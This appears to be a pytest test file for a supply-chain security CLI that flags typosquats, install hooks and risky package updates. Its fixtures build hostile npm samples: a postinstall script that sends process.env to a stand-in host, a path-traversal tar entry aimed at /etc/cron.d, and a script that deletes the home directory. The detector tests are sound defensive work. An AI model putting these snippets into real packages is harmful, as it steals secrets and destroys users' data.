"""The real CLI: vet/diff/data refresh, formats, exit codes, suppressions (offline)."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from pathlib import Path

import pytest

from chainwarden.cli import main


def npm_tgz(path: Path, version: str, files: dict[str, str], manifest: dict[str, object] | None = None) -> Path:
    buffer = io.BytesIO()
    members = {"package/package.json": json.dumps({"name": "demo-lib", "version": version, **(manifest or {})})}
    members.update({f"package/{k}": v for k, v in files.items()})
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    path.write_bytes(gzip.compress(buffer.getvalue()))
    return path


@pytest.fixture(autouse=True)
def _isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))


def test_vet_bare_names_table_and_exit_codes(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["vet", "--offline", "pypi:reqeusts", "npm:lodahs"]) == 0
    out = capsys.readouterr().out
    assert "typosquat of 'requests'" in out and "typosquat of 'lodash'" in out
    assert main(["vet", "--offline", "--fail-on", "high", "pypi:reqeusts"]) == 1
    assert main(["vet", "--offline", "--fail-on", "high", "pypi:requests", "npm:lodash"]) == 0


def test_vet_json_and_sarif(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["vet", "--offline", "-f", "json", "pypi:reqeusts"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["command"] == "vet"
    assert document["findings"][0]["rule_id"] == "typosquat"
    assert document["vet"]["packages"] == 1
    assert main(["vet", "--offline", "-f", "sarif", "pypi:reqeusts"]) == 0
    log = json.loads(capsys.readouterr().out)
    assert log["runs"][0]["results"][0]["level"] == "error"


def test_vet_ignore_and_config_allow(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["vet", "--offline", "--ignore", "typosquat:pypi:reqeusts", "-f", "json", "pypi:reqeusts"]) == 0
    assert json.loads(capsys.readouterr().out)["findings"] == []
    config = tmp_path / "chainwarden.toml"
    config.write_text('[typosquat]\nallow = ["pypi:reqeusts"]\n')
    assert main(["vet", "--offline", "--config", str(config), "-f", "json", "pypi:reqeusts"]) == 0
    assert json.loads(capsys.readouterr().out)["findings"] == []
    config.write_text('[rules]\nseverity = { "typosquat" = "low" }\n')
    assert main(["vet", "--offline", "--config", str(config), "--fail-on", "medium", "pypi:reqeusts"]) == 0


def test_vet_scans_archives(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = npm_tgz(
        tmp_path / "demo-lib-1.0.1.tgz",
        "1.0.1",
        {"x.js": "require('https').get('https://c.example.invalid/' + JSON.stringify(process.env));\n"},
        {"scripts": {"postinstall": "node x.js"}},
    )
    assert main(["vet", "--offline", "--fail-on", "high", "-f", "json", str(bad)]) == 1
    document = json.loads(capsys.readouterr().out)
    assert document["summary"]["by_severity"]["critical"] >= 1


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["vet", "--offline", "pypi:requests==2.0"], "drop --offline"),
        (["vet", "--offline", "missing-dir/nothing.whl"], ""),
        (["vet", "--offline", "pypi:"], "missing package name"),
        (["diff", "--offline", "only-one-arg"], "give OLD and NEW"),
    ],
)
def test_usage_errors_exit_2(args: list[str], message: str, capsys: pytest.CaptureFixture[str]) -> None:
    code = main(args)
    assert code == 2
    err = capsys.readouterr().err
    assert err.count("\n") <= 2
    assert message in err


def test_vet_hostile_archive_is_one_line_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evil = tmp_path / "evil-1.0.tgz"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("../../etc/cron.d/x")
        info.size = 1
        archive.addfile(info, io.BytesIO(b"x"))
    evil.write_bytes(gzip.compress(buffer.getvalue()))
    assert main(["vet", "--offline", str(evil)]) == 2
    assert "escapes the root" in capsys.readouterr().err


def test_diff_archives(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old = npm_tgz(tmp_path / "demo-lib-1.0.0.tgz", "1.0.0", {"index.js": "module.exports = 1;\n"})
    new = npm_tgz(
        tmp_path / "demo-lib-1.0.1.tgz",
        "1.0.1",
        {"index.js": "module.exports = 1;\n", "setup.js": "require('https').get('https://c.example.invalid/x');\n"},
        {"scripts": {"preinstall": "node setup.js"}},
    )
    assert main(["diff", "--offline", str(old), str(new), "--fail-on", "high", "-f", "json"]) == 1
    document = json.loads(capsys.readouterr().out)
    assert document["update"]["bump"] == "patch"
    assert document["update"]["verdict"] == "block"
    rules = {f["rule_id"]: f["severity"] for f in document["findings"]}
    assert rules["update-new-install-hook"] == "high"
    assert rules["update-new-capability"] == "high"
    assert main(["diff", "--offline", str(old), str(old), "--fail-on", "low"]) == 0


def test_diff_reports_file_writes_and_destruction_that_appear(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old = npm_tgz(tmp_path / "cfg-2.0.0.tgz", "2.0.0", {"index.js": "module.exports = () => 1;\n"})
    new = npm_tgz(
        tmp_path / "cfg-2.1.0.tgz",
        "2.1.0",
        {
            "index.js": "const fs = require('fs');\nmodule.exports = (p, d) => fs.writeFileSync(p, d);\n",
            "lib/wipe.js": "const fs = require('fs'); const os = require('os');\n"
            "fs.rmSync(os.homedir(), {recursive: true});\n",
        },
    )
    assert main(["diff", "--offline", str(old), str(new), "-f", "json"]) == 0
    findings = json.loads(capsys.readouterr().out)["findings"]
    capabilities = [f for f in findings if f["rule_id"] == "update-new-capability"]
    assert any("filesystem writes" in f["title"] and f["severity"] == "low" for f in capabilities)
    threats = [f for f in findings if f["rule_id"] == "update-new-threat"]
    assert any("Overwrites or deletes files" in f["title"] and f["severity"] == "high" for f in threats), threats


def test_data_refresh_from_tsv(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "pypi.tsv").write_text("name\trank_among_15000\n" + "".join(f"p{i}\t{i}\n" for i in range(1, 15_001)))
    (tmp_path / "npm.tsv").write_text("name\tdownloads\n" + "".join(f"n{i}\t{i}\n" for i in range(10_000)))
    assert main(["data", "refresh", "--from-tsv", str(tmp_path), "--dir", str(tmp_path / "out")]) == 0
    assert "wrote 15000 PyPI names" in capsys.readouterr().out
    assert main(["data", "refresh", "--from-tsv", str(tmp_path / "nowhere")]) == 2
